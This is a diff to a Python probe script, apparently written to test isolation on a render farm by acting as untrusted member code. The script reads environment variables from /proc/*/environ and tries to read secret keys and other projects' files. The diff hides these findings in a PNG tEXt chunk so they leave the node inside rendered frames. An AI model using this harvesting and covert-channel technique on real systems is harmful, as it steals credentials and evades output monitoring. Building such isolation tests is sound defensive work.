@@ -3,10 +3,11 @@
     probe_renderer.py OUTPUT_PATTERN FRAMES READS WRITES PORT
 
 Standard library only. What it tries, as any code a member gets run on a render node
-would, goes into a report saved beside each frame (``<frame name>.json``, uploaded with
-it): its own environment and every ``/proc/*/environ`` it can read; reading each path in
-READS (``:``-separated: the worker's secret key, another project's files); writing a file
-into each folder in WRITES; connecting to ``127.0.0.1:PORT`` (0: no attempt).
+would, goes into a report inside each frame (a ``probe`` text chunk of the PNG, which is
+uploaded as the frame): its own environment and every ``/proc/*/environ`` it can read;
+reading each path in READS (``:``-separated: the worker's secret key, another project's
+files); writing a file into each folder in WRITES; connecting to ``127.0.0.1:PORT``
+(0: no attempt).
 """
 
 from __future__ import annotations
@@ -20,7 +21,9 @@ import zlib
 from pathlib import Path
 
 
-def tiny_png() -> bytes:
+def tiny_png(report: str) -> bytes:
+    """A real 1x1 PNG carrying ``report`` in a tEXt chunk (only frames leave the node)."""
+
     def chunk(kind: bytes, body: bytes) -> bytes:
         return (
             struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
@@ -30,6 +33,7 @@ def tiny_png() -> bytes:
     return (
         b"\x89PNG\r\n\x1a\n"
         + chunk(b"IHDR", header)
+        + chunk(b"tEXt", b"probe\x00" + report.encode("latin-1", "replace"))
         + chunk(b"IDAT", zlib.compress(b"\x00\x10\x20\x30"))
         + chunk(b"IEND", b"")
     )
@@ -84,8 +88,7 @@ def main() -> int:
     for number in (int(f) for f in frames.split(",")):
         print(f"Fra:{number} Mem:1.00M | Time:00:00.01 | Sample 1/1", flush=True)
         stem = pattern.replace("####", f"{number:04d}")
-        Path(stem + ".png").write_bytes(tiny_png())
-        Path(stem + ".json").write_text(json.dumps(report))
+        Path(stem + ".png").write_bytes(tiny_png(json.dumps(report)))
         print(f"Saved: '{stem}.png'", flush=True)
     return 0
 
